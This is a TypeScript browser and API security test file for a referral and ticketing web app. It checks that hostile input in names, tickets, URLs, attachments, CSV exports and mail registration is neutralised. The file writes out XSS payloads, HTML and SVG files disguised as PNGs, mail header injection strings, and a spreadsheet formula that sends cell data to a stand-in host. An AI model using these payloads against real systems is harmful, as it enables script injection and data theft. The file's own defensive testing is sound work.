import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { demoPassword, demoPeople } from '#server/demo/people.ts';
import { startMailServer } from '#server/notify/email/mail-server.test-setup.ts';
import { makePng, makePngOf } from '#server/tickets/attachment-files.test-setup.ts';
import { makeOperator } from '../operators.ts';
import { openBrowser, sizes } from './browser.ts';
import { findMail } from './mails.ts';
import { openDemoWorld, type WorldInProcess } from './world-in-process.ts';

/**
 * A member who means harm writes it into everything that others come to read. In their browsers nothing of it runs, in
 * their spreadsheets nothing of it counts, and their mails have the headers that we wrote.
 */
const anika = demoPeople[0] as (typeof demoPeople)[number];
const MARKUP = '"\'><img src=x onerror=alert(1)><svg onload=alert(2)><script>alert(3)</script>{{7*7}}';
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Pay")';
const MIB = 1024 * 1024;

let mails: Awaited<ReturnType<typeof startMailServer>>;
let world: WorldInProcess;
let browser: Browser;

beforeAll(async () => {
  mails = await startMailServer();
  [world, browser] = await Promise.all([openDemoWorld('hostile', { SMTP_URL: mails.url }), openBrowser()]);
});

afterAll(async () => {
  await browser.close();
  await world.stop();
  await mails.stop();
});

test('markup in name, device, subject, message and file name is text to whoever reads it', async () => {
  const evil = await join(MARKUP);
  const { context, page, harm } = await openPage({ userAgent: `Mozilla/5.0 ${MARKUP}` });
  const token = await signIn(page, evil);
  const ticket = await call<{ id: string }>(token, 'ticket/create', {
    subject: MARKUP,
    category: 'other',
    message: MARKUP,
    attachments: [{ name: `${MARKUP}.png`, type: 'image/png', content: makePng().toString('base64') }],
  });
  const operator = await makeOperator(world.context, 'support');
  await call(operator.token, `operator/tickets/${ticket.id}/reply`, { message: MARKUP });

  for (const path of ['/dashboard', '/profile', '/query', `/query/${ticket.id}`, '/team/referral-team'])
    await look(page, path);
  await page.goto(`/query/${ticket.id}`);
  await page.getByRole('log', { name: 'Messages' }).getByText('onerror=alert(1)').first().waitFor();
  await page.getByRole('button', { name: /^Notifications/ }).click();
  await page.getByRole('dialog').getByRole('listitem').first().waitFor();
  await context.close();

  const sponsor = await openPage();
  await signIn(sponsor.page, anika.code);
  for (const path of ['/team/referral-team', '/team/level-team?level=1', '/team/team-analysis'])
    await look(sponsor.page, path);
  await sponsor.page.getByText('onerror=alert(1)').first().waitFor();
  await sponsor.context.close();

  const stranger = await openPage();
  await stranger.page.goto('/register');
  await stranger.page.getByLabel('Invitation Id').fill(evil);
  await stranger.page.getByText('onerror=alert(1)').first().waitFor();
  await stranger.context.close();
  expect([...harm, ...sponsor.harm, ...stranger.harm]).toEqual([]);
});

test('markup in an address is an address that does not exist', async () => {
  const { context, page, harm } = await openPage();
  const written = encodeURIComponent(MARKUP);
  const open = [
    `/?accessToken=${written}`,
    `/register?referralCode=${written}`,
    `/not-me#${written}`,
    `/${written}`,
    `/operator/${written}`,
  ];
  for (const path of open) await look(page, path);
  await signIn(page, anika.code);
  const closed = [
    `/dashboard?trade=${written}`,
    `/payment/${written}`,
    `/trades/${written}`,
    `/query/${written}`,
    `/query/new?about=${written}`,
    `/fund/investments/${written}`,
    `/fund/withdrawal?withdrawal=${written}`,
    `/fund/transaction-history?period=${written}&from=${written}`,
  ];
  for (const path of closed) await look(page, path);
  await context.close();

  expect(harm).toEqual([]);
});

test('of files that are something else, too big or too many nothing is stored', async () => {
  const { context, page, harm } = await openPage();
  const token = await signIn(page, anika.code);
  const html = Buffer.from('<html><script>alert(1)</script></html>');
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
  const png = makePng();
  const attach = (...contents: Buffer[]) => ({
    subject: 'Files',
    category: 'other',
    message: 'See the files.',
    attachments: contents.map((content, index) => ({
      name: `${index}.png`,
      type: 'image/png',
      content: content.toString('base64'),
    })),
  });
  const before = await call<{ items: unknown[] }>(token, 'ticket/tickets?limit=100');
  const refused = {
    'an SVG': attach(svg),
    'a page in a PNG': attach(Buffer.concat([png.subarray(0, 8), html])),
    'a page behind a PNG': attach(Buffer.concat([png, html])),
    '6 MB': attach(makePngOf(6 * MIB)),
    'a fourth file': attach(png, png, png, png),
    'an SVG by its type': {
      ...attach(),
      attachments: [{ name: 'a.svg', type: 'image/svg+xml', content: svg.toString('base64') }],
    },
  };
  for (const [what, body] of Object.entries(refused)) {
    const { status } = await send(token, 'ticket/create', body);
    expect({ what, refused: status >= 400 && status < 500 }).toEqual({ what, refused: true });
  }
  expect(await call(token, 'ticket/tickets?limit=100')).toEqual(before);

  await page.goto('/query/new');
  const file = (name: string, mimeType: string, buffer: Buffer) => ({ name, mimeType, buffer });
  await page
    .locator('input[type=file]')
    .setInputFiles([
      file('drawing.svg', 'image/svg+xml', svg),
      file('big.png', 'image/png', makePngOf(6 * MIB)),
      ...['1', '2', '3', '4'].map((name) => file(`${name}.png`, 'image/png', png)),
    ]);
  for (const name of ['drawing.svg', 'big.png', '4.png']) await page.getByText(`${name} is not attached`).waitFor();
  expect(await page.getByRole('list', { name: 'Files to send' }).getByRole('listitem').count()).toBe(3);
  await context.close();
  expect(harm).toEqual([]);
});

test('a file that was taken comes back as a file, never as a page', async () => {
  const { context, page, harm } = await openPage();
  const token = await signIn(page, anika.code);
  const ticket = await call<{ id: string }>(token, 'ticket/create', {
    subject: 'A file',
    category: 'other',
    message: 'See the file.',
    attachments: [{ name: 'x.html', type: 'image/png', content: makePng().toString('base64') }],
  });
  const thread = await call<{ messages: { attachments: { id: string; name: string }[] }[] }>(
    token,
    `ticket/ticket-msg?ticketId=${ticket.id}`,
  );
  const attachment = thread.messages[0]?.attachments[0];
  expect(attachment?.name).toMatch(/\.png$/);
  const reply = await send(token, `ticket/attachments/${attachment?.id}`);
  expect(reply.status).toBe(200);
  expect(reply.headers.get('content-disposition')).toMatch(/^attachment;/);
  expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
  expect(reply.headers.get('content-type')).toBe('application/octet-stream');
  await context.close();
  expect(harm).toEqual([]);
});

test('a formula in a name is a text in the saved file', async () => {
  await join(FORMULA);
  const { context, page, harm } = await openPage();
  await signIn(page, anika.code);
  await page.goto('/team/referral-team');
  const saving = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const text = readFileSync(await (await saving).path(), 'utf8');
  expect(text).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
  expect(text).not.toMatch(/(^|,|")[=@+]/m);
  await context.close();
  expect(harm).toEqual([]);
});

test('no text of a member becomes a header of a mail', async () => {
  const person = { referralCode: anika.code, mobile_number: '+919876543210', password: 'a harbour at dusk' };
  const header = 'x\r\nBcc: evil@mail.test';
  for (const wrong of [
    { name: header, email: 'eve@mail.test' },
    { name: 'Eve', email: `eve@mail.test${header}` },
  ])
    expect((await send(undefined, 'auth/register', { ...person, ...wrong })).status).toBe(422);
  const code = await join(`Eve, <evil@mail.test>; "Bcc: evil@mail.test" <b>`, 'eve@mail.test');
  expect((await send(undefined, 'auth/forgot-password', { loginId: code })).status).toBe(200);
  const mail = await findMail(mails, 'eve@mail.test', 'The code to set a new password');
  const headers = mail.split(/\r?\n\r?\n/)[0] ?? '';
  expect(
    headers
      .match(/^(?:to|cc|bcc|from|subject):/gim)
      ?.map((name) => name.toLowerCase())
      .sort(),
  ).toEqual(['from:', 'subject:', 'to:']);
  expect(mails.received.filter(({ recipients }) => recipients.includes('evil@mail.test'))).toEqual([]);
});

/** What a page must never do, as it happens: run what a stranger wrote, try to, or ask another server for anything. */
async function openPage(options: { userAgent?: string } = {}) {
  const context: BrowserContext = await browser.newContext({
    viewport: sizes.desktop,
    baseURL: world.origin,
    acceptDownloads: true,
    ...options,
  });
  const harm: string[] = [];
  await context.exposeFunction('tellHarm', (what: string) => harm.push(what));
  await context.addInitScript(() => {
    const { tellHarm } = window as unknown as { tellHarm: (what: string) => void };
    addEventListener('securitypolicyviolation', (event) => tellHarm(`${event.violatedDirective} ${event.blockedURI}`));
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    harm.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => harm.push(String(error)));
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (origin !== world.origin && protocol.startsWith('http')) harm.push(request.url());
  });
  return { context, page, harm };
}

/** Opens a page, waits until it says something, and looks for what only a stranger's markup could have made. */
async function look(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await page.getByRole('heading').first().waitFor();
  await page.waitForFunction(() => document.querySelector('[aria-busy="true"]') === null);
  const made = await page.evaluate(() => document.querySelectorAll('img[src="x"], [onerror], [onload]').length);
  expect({ path, made }).toEqual({ path, made: 0 });
}

/** @returns the token that the browser keeps */
async function signIn(page: Page, code: string): Promise<string> {
  await page.goto('/');
  await page.getByLabel('Registered Id').fill(code);
  await page.getByLabel('Password', { exact: true }).fill(code === anika.code ? demoPassword : 'a harbour at dusk');
  await page.getByRole('button', { name: 'SIGN IN' }).click();
  await page.waitForURL('**/dashboard');
  return JSON.parse((await page.evaluate(() => localStorage.getItem('accessToken'))) ?? 'null') as string;
}

/** Signs up under Anika by the call itself: a form might be kinder. @returns the Registered Id */
async function join(name: string, email = 'evil@example.com'): Promise<string> {
  const { referral_code } = await call<{ referral_code: string }>(undefined, 'auth/register', {
    referralCode: anika.code,
    mobile_number: '+919876543210',
    name,
    email,
    password: 'a harbour at dusk',
  });
  return referral_code;
}

async function call<T>(token: string | undefined, path: string, body?: unknown): Promise<T> {
  const reply = await send(token, path, body);
  expect({ path, status: reply.status }).toEqual({ path, status: 200 });
  return ((await reply.json()) as { data: T }).data;
}

function send(token: string | undefined, path: string, body?: unknown): Promise<Response> {
  return fetch(`${world.origin}/api/v1/${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
      ...(body === undefined ? {} : { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID() }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}
